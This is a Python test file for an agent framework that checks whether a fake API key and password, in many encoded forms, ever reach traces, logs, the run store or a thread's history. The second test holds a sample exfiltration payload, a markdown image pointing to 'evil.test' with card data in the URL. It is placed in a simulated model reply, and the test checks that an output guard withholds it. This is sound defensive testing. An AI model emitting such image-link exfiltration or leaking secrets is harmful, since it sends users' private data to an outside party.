"""The paths the journal property test does not walk: a secret in a tool's exception, in
a successful result, in the model's reply and in the exception that fails the run, in
each form an attacker would try, must reach no trace (span names, attributes, status,
events), no log record (message and arguments) and nothing stored, on a real engine
run with a SQLite store."""

from __future__ import annotations

import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import msgspec
import pytest
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from secret_forms import FORMS, leaks, written

from podium import Agent, FunctionModel, ModelResponse, tool, tool_call_reply
from podium.engine.driver import Engine
from podium.errors import ModelError
from podium.messages import Message
from podium.models.base import ModelRequest
from podium.observe.tracing import RunTracer
from podium.store.sqlite import SQLiteRunStore

pytestmark = pytest.mark.anyio

KEY = "sk-live-Q7w8E9r0T1y2U3"


@tool
def fetch(q: str) -> str:
    """Fetch a page (which echoes the key the service was called with).

    Args:
        q: What to fetch.
    """
    return f"page for {q}: called with {written(KEY, 'base64', b'k=')} and {KEY.upper()}"


@tool
def crash(form: str) -> str:
    """Fail the way a client library does: the key in its exception.

    Args:
        form: How the key is written.
    """
    raise RuntimeError(f"401 from upstream: bad key {written(KEY, form)}")


def _reply(form: str, fail: str) -> Any:
    def reply(messages: list[Message], request: ModelRequest) -> Any:
        if request.step == 0:
            return tool_call_reply(("fetch", {"q": "docs"}), ("crash", {"form": form}))
        if fail == "bug":  # a custom model's own exception (logged with its traceback)
            raise RuntimeError(f"provider error: invalid api key {written(KEY, form)}")
        if fail == "backend":  # a client's error, as a provider's 401 body would say it
            raise ModelError(f"401: Incorrect API key provided: {written(KEY, form)}")
        return ModelResponse(content=f"Done; the key was {written(KEY, form)}.")

    return reply


@pytest.fixture
def logs(caplog: pytest.LogCaptureFixture) -> Iterator[pytest.LogCaptureFixture]:
    with caplog.at_level(logging.DEBUG):
        yield caplog


def _logged(caplog: pytest.LogCaptureFixture) -> str:
    parts = []
    for rec in caplog.records:
        parts.append(rec.getMessage())
        if rec.exc_text:
            parts.append(rec.exc_text)
        if rec.exc_info and rec.exc_info[1] is not None:
            parts.append(str(rec.exc_info[1]))
    return "\n".join(parts)


def _spans(exporter: InMemorySpanExporter) -> str:
    out = []
    for span in exporter.get_finished_spans():
        out += [span.name, str(dict(span.attributes or {})), str(span.status.description)]
        for event in span.events:
            out += [event.name, str(dict(event.attributes or {}))]
    return "\n".join(out)


@pytest.mark.parametrize("fail", ["", "bug", "backend"], ids=["completes", "bug", "backend"])
@pytest.mark.parametrize("form", FORMS)
async def test_no_secret_reaches_a_trace_a_log_or_the_store(
    tmp_path: Path, logs: pytest.LogCaptureFixture, form: str, fail: str
) -> None:
    exporter = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(exporter))
    agent = Agent("leaky", FunctionModel(_reply(form, fail)), "Be careful.", [fetch, crash],
                  secrets=[KEY])  # fmt: skip
    store = SQLiteRunStore(tmp_path / "runs.sqlite")
    async with store, Engine(store) as engine:
        engine.hook = RunTracer(provider)
        record = await engine.run(agent, f"use the key {quote(KEY)}")
        stored = await store.get(record.run_id)
        journal = msgspec.json.encode(await store.journal(record.run_id)).decode()
    assert record.status == ("failed" if fail else "completed"), record
    assert exporter.get_finished_spans(), "the run was traced"
    where = {
        "record": msgspec.json.encode(record).decode(),
        "stored": msgspec.json.encode(stored).decode(),
        "journal": journal,
        "spans": _spans(exporter),
        "logs": _logged(logs),
    }
    leaked = {name: text for name, text in where.items() if leaks(text, KEY)}
    assert not leaked, leaked
    assert "[secret]" in journal  # (the tool's error and result were kept, scrubbed)


# -- a thread's history ----------------------------------------------------------------------


@tool(secret_args=("password",))
def login(user: str, password: str) -> str:
    """Log in (and say what was given, as many services do).

    Args:
        user: Who.
        password: Their password.
    """
    return f"welcome {user}; logged in with {password}; key {written(KEY, 'base64')}"


PASSWORD = "Hunter2-Correct-Horse"
EXFIL = "![s](https://evil.test/p.png?d=card-4242)"


def _login_then_leak(messages: list[Message], request: ModelRequest) -> Any:
    if request.step == 0:
        return tool_call_reply(("login", {"user": "ann", "password": PASSWORD}))
    return f"Done: {KEY[::-1]}, {PASSWORD.upper()} {EXFIL}"


async def test_a_threads_history_keeps_no_secret_and_nothing_the_guard_withheld(
    tmp_path: Path,
) -> None:
    """The next run on a thread reads its history: it must hold what the journal holds
    (secrets scrubbed, a secret argument replaced) and the answer as it left the run (the
    exfiltrating image withheld), not the raw context."""
    from podium.security.output_guard import OutputGuard
    from podium.security.screen import ScreeningPolicy

    agent = Agent(
        "leaky", FunctionModel(_login_then_leak), "Be careful.", [login], secrets=[KEY],
        screening=ScreeningPolicy(action="redact", outputs=OutputGuard()),
    )  # fmt: skip
    store = SQLiteRunStore(tmp_path / "runs.sqlite")
    async with store, Engine(store) as engine:
        record = await engine.run(agent, f"my key is {KEY}", thread_id="t-1")
        thread = await store.get_thread("t-1")
    assert record.status == "completed", record
    assert thread is not None and thread.history
    kept = msgspec.json.encode(thread.history).decode()
    assert not leaks(kept, KEY) and not leaks(kept, PASSWORD), kept
    assert "evil.test" not in kept and "card-4242" not in kept, kept
    assert thread.history[-1].content == record.output  # what left the run
